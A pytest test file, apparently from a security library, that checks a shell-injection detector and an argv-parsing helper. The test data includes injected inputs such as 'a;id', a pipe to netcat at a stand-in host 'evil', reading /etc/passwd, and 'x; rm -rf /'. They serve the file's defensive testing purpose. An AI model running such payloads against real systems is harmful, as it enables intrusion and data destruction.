"""Shell injection detector and the argv helper."""

from __future__ import annotations

import shlex

import pytest

from tracesec.protect import detect_shell_injection, shell_command_from_argv


@pytest.mark.parametrize(
    ("template", "user_input"),
    [
        ("ls {}", "a;id"),
        ("ls {}", "a && id"),
        ("ls {}", "a || id"),
        ("ls {}", "a | nc evil 80"),
        ("ls {}", "a & id"),
        ("ls {}", "a\nid"),
        ("ls {}", "$(id)"),
        ("ls {}", "`id`"),
        ("ls {}", "$HOME"),
        ("ls {}", "${PATH}"),
        ("ls {}", "a > /tmp/out"),
        ("ls {}", "< /etc/passwd"),
        ("ls {}", "*.py"),
        ("ls {}", "a b"),
        ("ls {}", "x # rest ignored"),
        ("ls {}", "~root"),
        ("ls {}", "{a,b}"),
        ("ls {} /tmp", "'unterminated"),
        ('echo "{}"', "$(id)"),
        ('echo "{}"', "`id`"),
        ('echo "{}"', '"; id; echo "'),
        ("echo '{}'", "'; id; echo '"),
        ("sh -c 'ls {}'", "'; id; '"),
    ],
)
def test_attacks_are_flagged(template: str, user_input: str) -> None:
    assert detect_shell_injection(template.replace("{}", user_input), user_input)


@pytest.mark.parametrize(
    ("command", "user_input"),
    [
        ("ls 'a;id'", "a;id"),
        ('echo "a && b | c > d"', "a && b | c > d"),
        ("echo '$(id)'", "$(id)"),
        ("ls report-2024.final_v2.pdf", "report-2024.final_v2.pdf"),  # safe characters only
        ("ls a'b'", "a'b'"),  # quotes that only join one word
        ("grep -r 'foo bar' .", "foo bar"),
        ("ls " + shlex.quote("it's; id"), "it's; id"),  # shlex.quote's '"'"' pairs with the input's quote
        ("ls " + shlex.quote("' || whoami"), "' || whoami"),
        ("ls a~b", "a~b"),
        ("echo {{4+4}}", "{{4+4}}"),
        ("echo 'naïve café'", "naïve café"),
        ("ls; echo done", "not there"),
        ("ls", ""),
    ],
)
def test_look_alikes_are_not_flagged(command: str, user_input: str) -> None:
    assert not detect_shell_injection(command, user_input)


def test_long_input_quoted_is_data() -> None:
    user_input = "words; and | symbols & more " * 300
    assert not detect_shell_injection("grep -c " + shlex.quote(user_input) + " file", user_input)
    assert detect_shell_injection("grep -c " + user_input + " file", user_input)


@pytest.mark.parametrize(
    ("argv", "expected"),
    [
        (["sh", "-c", "ls x"], "ls x"),
        (["/bin/bash", "-lc", "echo hi"], "echo hi"),
        (["/usr/bin/zsh", "-e", "-c", "a; b", "name", "arg"], "a; b"),
        (["bash", "-o", "pipefail", "-c", "x | y"], "x | y"),
        (["dash", "--norc", "-c", "z"], "z"),
        (["python", "-c", "print(1)"], None),
        (["bash", "script.sh", "-c"], None),
        (["sh", "-c"], None),
        ([], None),
    ],
)
def test_shell_command_from_argv(argv: list[str], expected: str | None) -> None:
    assert shell_command_from_argv(argv) == expected


def test_argv_helper_feeds_the_detector() -> None:
    user_input = "x; rm -rf /"
    command = shell_command_from_argv(["sh", "-c", f"ls {user_input}"])
    assert command is not None and detect_shell_injection(command, user_input)
